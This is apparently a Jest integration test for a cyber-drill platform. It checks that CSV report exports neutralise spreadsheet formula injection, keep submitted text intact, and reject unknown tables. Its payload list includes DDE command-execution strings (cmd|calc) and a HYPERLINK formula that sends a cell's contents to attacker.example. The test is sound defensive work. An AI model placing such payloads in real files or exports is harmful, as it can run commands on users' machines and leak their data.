import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { PlannedExercise, WireError } from '@cyberdrill/contracts';
import { isFormula, readCsv } from '@cyberdrill/testing';
import { randomUUID } from 'node:crypto';
import { ADMIN_TOKEN, Drill, DrillServer } from '../integration/server/drill-server.ts';
import { SERVER_SCENARIO } from '../integration/server/server-scenario.ts';

const TABLES = ['teams', 'injects', 'scores', 'coordination', 'timeline'];

/** Words that spreadsheets have run as formulas, some of them only where another separator is usual. */
const FORMULAS = [
  `=cmd|'/C calc'!A0`,
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  'a;=HYPERLINK("http://attacker.example/?"&A1,"ok")',
  `a";"=1+1`,
  'a\n=1+1',
  '＝1+1',
];

let server: DrillServer;
let drill: Drill;

beforeAll(async () => {
  server = await DrillServer.start();
  const scenarioYaml = SERVER_SCENARIO.replace('title: Question', `title: '=1+1'`).replace(
    'description: Acknowledges.',
    `description: '@SUM(1)'`,
  );
  const teams = FORMULAS.map((formula, index) => {
    return {
      id: `t${index}`,
      name: `${formula.replace(/[\t\r\n]/g, ' ').slice(0, 60)} ${index}`,
      language: 'en',
    };
  });
  const body = JSON.stringify({ title: '=1+1', scenarioYaml, teams });
  const response = await server.request('/exercises', ADMIN_TOKEN, { method: 'POST', body });
  if (response.status !== 201) throw new Error(await response.text());
  drill = new Drill(server, (await response.json()) as PlannedExercise);
  await drill.control('exercise:start', {});
  for (const [index, formula] of FORMULAS.entries()) await write(`t${index}`, formula);
  for (const text of FORMULAS) await drill.control('control:note', { text });
  await drill.control('exercise:end', { reason: '=1+1' });
}, 60_000);

afterAll(() => server.stop());

/** A team puts a formula wherever it may write. */
async function write(teamId: string, formula: string): Promise<void> {
  const token = drill.tokenOf(teamId);
  const answer = { injectId: 'question', responseId: `-${randomUUID()}`, isFinal: true, text: formula };
  const replies = [
    await drill.give(token, 'response:submit', { ...answer, values: { finding: formula } }),
    await drill.give(token, 'message:send', {
      ...{ messageId: `-${randomUUID()}`, kind: 'share', to: ['role:excon'], tlp: 'TLP:GREEN' },
      ...{ subject: formula, body: formula },
    }),
  ];
  expect(replies.filter((reply) => 'error' in reply)).toEqual([]);
}

function report(token: string, query: string): Promise<Response> {
  return drill.request(`/report${query}`, token);
}

describe('the report as spreadsheets', () => {
  it.each(TABLES)('holds no formula, whoever wrote what: %s', async (table) => {
    const response = await report(drill.planned.controlToken, `?format=csv&table=${table}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="${drill.exerciseId}-${table}.csv"`,
    );
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    for (const separator of [',', ';', '\t'])
      expect(readCsv(text, separator).flat().filter(isFormula)).toEqual([]);
    const rows = readCsv(text);
    expect(rows.length).toBeGreaterThan(1);
    for (const row of rows) expect(row).toHaveLength(rows[0]?.length ?? 0);
  });

  it('loses nothing of what was written', async () => {
    const response = await report(drill.planned.controlToken, '?format=csv&table=injects');
    const [heads = [], ...rows] = readCsv(await response.text());
    const answers = rows.map((row) => row[heads.indexOf('Answer')]?.replaceAll("'", ''));
    for (const formula of FORMULAS) expect(answers).toContain(formula.replaceAll("'", ''));
  });

  it('says which tables there are', async () => {
    for (const query of ['?format=csv', '?format=csv&table=passwords', '?format=csv&table=__proto__']) {
      const response = await report(drill.planned.controlToken, query);
      const { error } = (await response.json()) as { readonly error: WireError };
      expect({ status: response.status, code: error.code }).toEqual({ status: 422, code: 'REQUEST_INVALID' });
      expect(error.message).toContain(TABLES.join(', '));
    }
  });

  it('is not for teams', async () => {
    const response = await report(drill.tokenOf('t0'), '?format=csv&table=injects');
    expect(response.status).toBe(422);
    expect(await response.text()).not.toContain('t1');
  });
});
